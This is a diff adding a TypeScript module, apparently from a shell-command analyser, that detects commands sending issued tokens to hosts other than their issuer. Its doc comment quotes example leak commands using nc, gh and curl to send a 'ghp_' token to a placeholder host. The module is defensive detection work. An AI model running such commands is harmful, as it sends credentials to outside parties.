@@ -1,0 +1,71 @@
+import type { Running } from '../command/running.js';
+import { holdsIssued, holdsKept } from '../../secrets/issued.js';
+import { HOLE, textOf } from '../../shell/command.js';
+import { inputText } from '../../shell/output/output.js';
+import { emitResource } from '../command/emit.js';
+import { isForgeEntry } from './forge-entry.js';
+import { hostOf, isNamedAfter, isOf } from './issuer-hosts.js';
+import { ISSUERS } from './issuers.js';
+
+/** Whom a command speaks to. */
+interface Reached {
+  /** Services, by the names of their machines: a token may be for one of them. */
+  readonly services: readonly string[];
+  /** Somebody who is only sent what there is: by `nc`, by mail, in an entry that others read. */
+  readonly anybody: boolean;
+  /** Code may give each service what is for it; a command that has several addresses gives all of them the same. */
+  readonly apart: boolean;
+}
+
+/**
+ * `nc x.test 80 <<< ghp_…`, `gh issue comment -b ghp_…`, `curl -d ghp_… https://x.test`: a token that stands in the command
+ * itself, or in what is piped into it, goes to others than gave it out.
+ *
+ * @param before the number of effects that there were before this command's own
+ */
+export function sentTokens(running: Running, before: number): void {
+  const args = running.command.words.slice(1).map(textOf);
+  const reached = reachedBy(args, running, before);
+  if (!reached.anybody && reached.services.length === 0) return;
+  if (textsSent(args, running).some((text) => holdsIssued(text) && isForeign(text, reached, running))) emitResource('send', 'credential', 'token', running);
+}
+
+/** Programs that hand on what they are given to another shell, in which its commands are looked at themselves. */
+const TO_SHELL = /^(?:ssh|autossh|mosh)$/;
+
+/** Programs for which an address is only a text. */
+const TEXT_ONLY = /^(?:echo|printf|grep|egrep|fgrep|rg|sed|awk)$/;
+
+function reachedBy(args: readonly string[], { program, frame: { analysis } }: Running, before: number): Reached {
+  if (TO_SHELL.test(program)) return { services: [], anybody: false, apart: false };
+  const own = analysis.effects.slice(before).filter((_, index) => analysis.owners[before + index] === analysis.flow);
+  const named = (kind: 'fetch' | 'send'): readonly string[] => own.flatMap((effect) => (effect.kind === kind && effect.target.kind === 'resource' && effect.target.resource === 'host' ? effect.target.name : []));
+  const fetched = named('fetch');
+  const addresses = TEXT_ONLY.test(program) ? [] : args.filter((arg) => /^[a-z][a-z\d+.-]*:\/\/\S+$/i.test(arg));
+  const [services, others] = parted(named('send'), (name) => name.includes('://') || fetched.includes(name));
+  return {
+    services: [...fetched, ...services, ...addresses].flatMap((name) => hostOf(name) ?? []),
+    anybody: others.some((name) => name === '' || name.split(/[\s/:@]+/).some((piece) => hostOf(piece) !== undefined)) || isForgeEntry(program, args),
+    apart: own.some(({ kind, target }) => kind === 'execute' && target.kind === 'resource' && target.resource === 'code'),
+  };
+}
+
+function parted(names: readonly string[], isFirst: (name: string) => boolean): readonly [readonly string[], readonly string[]] {
+  return [names.filter(isFirst), names.filter((name) => !isFirst(name))];
+}
+
+/** The arguments, and what is known of the input. */
+function textsSent(args: readonly string[], { command, scope }: Running): readonly string[] {
+  const input = command.input.kind === 'text' || command.input.kind === 'pipe' ? inputText(command, scope) : HOLE;
+  return input.startsWith(HOLE) ? args : [...args, input];
+}
+
+/** True for a token that is not for whom the command speaks to. Whose tokens are in no row may be for any service. */
+function isForeign(text: string, { services, anybody, apart }: Reached, running: Running): boolean {
+  if (anybody) return true;
+  if (holdsKept(text)) return services.length > 0;
+  const issuer = ISSUERS.find(({ token }) => token?.test(text));
+  if (issuer === undefined) return false;
+  const isElsewhere = (host: string): boolean => !isOf(issuer, host, running) && !isNamedAfter(issuer, host);
+  return apart ? services.length > 0 && services.every(isElsewhere) : services.some(isElsewhere);
+}
